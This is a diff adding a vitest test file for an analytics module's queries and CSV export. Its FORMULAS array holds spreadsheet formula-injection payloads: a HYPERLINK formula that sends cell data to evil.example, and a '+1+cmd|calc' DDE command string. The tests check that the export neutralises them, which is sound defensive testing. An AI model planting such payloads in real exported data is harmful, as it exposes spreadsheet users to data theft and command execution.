@@ -1,0 +1,77 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { createEventBuilder, type RecordedEvent } from '../../schemas/index.js';
+import { describeWithEngine } from '../testing/engines.js';
+import { createAnalyticsQueries, type AnalyticsQueries } from './analyticsQueries.js';
+import { getClickHouseAnalyticsSink } from './clickhouseAnalyticsSink.js';
+import { createAnalyticsClient, type AnalyticsClient } from './clickhouseClient.js';
+import { migrate } from './migrate.js';
+import { chdbAvailability } from './testing/chdbAvailability.js';
+
+const DAY = 86_400_000_000_000n;
+const D1 = 1_732_406_400_000_000_000n; // 2024-11-24T00:00:00Z
+// what a spreadsheet would run: each character OWASP lists as a formula start
+const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+
+const b = createEventBuilder({ host: 'h1' });
+const recorded: RecordedEvent[] = FORMULAS.map((comm, i) => ({
+  event: b.event('DriverBound', { device: '0000:01:00.0', driver: 'vfio-pci' }, { atNs: D1 + BigInt(i) * DAY, actor: { comm, vm: comm, tenant: `t${i}` } }),
+  streamName: 'host-h1',
+  streamPosition: BigInt(i),
+  globalPosition: BigInt(i + 1),
+}));
+
+describeWithEngine('chdb', chdbAvailability(), 'Analytics > queries on ordinary and hostile input (chdb)', () => {
+  let dir: string;
+  let ac: AnalyticsClient;
+  let q: AnalyticsQueries;
+
+  beforeAll(async () => {
+    dir = mkdtempSync(join(tmpdir(), 'iommutrail-chq-'));
+    ac = createAnalyticsClient({ target: { kind: 'embedded', path: dir }, database: 'querytest' });
+    await migrate(ac);
+    await getClickHouseAnalyticsSink(ac).write({
+      events: recorded,
+      violations: [],
+      groupStates: [],
+      compliance: recorded.map((r, i) => ({ host: 'h1', day: `2024-11-${24 + i}`, opened: 0, closed: 0, maxOpen: i % 2, openAtEnd: 0, events: 1n, version: r.globalPosition })),
+      checkpoint: { subscriber: 'test', position: BigInt(recorded.length) },
+    });
+    q = createAnalyticsQueries(ac);
+  });
+  afterAll(async () => {
+    await ac.close();
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('hardening #10: a CSV cell starting with = + - @ tab or CR is neutralised with a leading quote', async () => {
+    const csv = await q.csv('events', { host: 'h1' });
+    for (const f of FORMULAS) {
+      const quoted = `"'${f.replaceAll('"', '""')}"`;
+      // actor_comm and actor_vm both carry it
+      expect(csv.split(quoted).length - 1, JSON.stringify(f)).toBe(2);
+    }
+    // no quoted cell begins with a formula character
+    expect(csv).not.toMatch(/,"[=+\-@\t\r]/);
+  });
+
+  it('given ordinary cells, when exported as CSV, then text is quoted and numbers are bare', async () => {
+    const csv = await q.csv('compliance', {});
+    const lines = csv.trim().split('\n');
+    expect(lines[0]).toBe('"day","hosts_reporting","hosts_compliant","compliant_share","opened","closed","events"');
+    expect(lines[1]).toMatch(/^"2024-11-24","1","1",1,"0","0","1"$/);
+  });
+
+  it('hardening #14: violation-events for an unknown violation key is an empty table, not a 500', async () => {
+    expect(await q.table('violation-events', { violationKey: 'no-such-violation' })).toEqual([]);
+    expect((await q.csv('violation-events', { violationKey: 'no-such-violation' })).trim().split('\n')).toHaveLength(1);
+  });
+
+  it('hardening #14: compliance with from/to gives the days that overlap the range', async () => {
+    const rows = await q.table('compliance', { fromNs: D1 + DAY + 5n, toNs: D1 + 3n * DAY + 5n });
+    expect(rows.map((r) => r.day)).toEqual(['2024-11-25', '2024-11-26', '2024-11-27']);
+    expect(await q.table('compliance', { fromNs: D1 + 100n * DAY })).toEqual([]);
+  });
+});
